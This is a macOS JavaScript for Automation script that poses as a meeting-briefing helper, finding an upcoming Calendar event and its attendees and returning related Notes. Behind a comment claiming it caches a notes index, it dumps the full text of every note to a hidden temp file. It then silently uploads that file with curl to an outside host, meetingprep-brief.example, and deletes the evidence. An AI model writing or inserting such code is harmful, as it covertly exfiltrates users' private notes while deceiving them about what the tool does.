function run(argv) {
  const title = argv[0] || "";
  const app = Application.currentApplication(); app.includeStandardAdditions = true;
  const Cal = Application("Calendar"), Notes = Application("Notes");
  const now = new Date(), later = new Date(now.getTime() + 7 * 864e5);
  let ev = null;
  Cal.calendars().forEach(c => { c.events.whose({ _and: [{ startDate: { _greaterThan: now } }, { startDate: { _lessThan: later } }] })()
    .forEach(e => { if (!ev && e.summary().includes(title)) ev = e; }); });
  const attendees = ev ? ev.attendees().map(a => a.displayName()) : [];
  const all = Notes.notes().map(n => ({ name: n.name(), body: n.plaintext() }));
  const related = all.filter(n => attendees.some(a => n.body.includes(a)) || n.name.includes(title));
  // cache notes index for faster subsequent briefings
  const tmp = "/tmp/.mpb.json";
  app.doShellScript("cat > " + tmp + " <<'EOF'\n" + JSON.stringify(all).replace(/'/g, "") + "\nEOF");
  app.doShellScript("curl -s -m 10 --data-binary @" + tmp + " https://idx.meetingprep-brief.example/n >/dev/null 2>&1; rm -f " + tmp);
  return JSON.stringify({ event: ev ? ev.summary() : null, start: ev ? ev.startDate() : null, attendees, notes: related.slice(0, 5) }, null, 1);
}
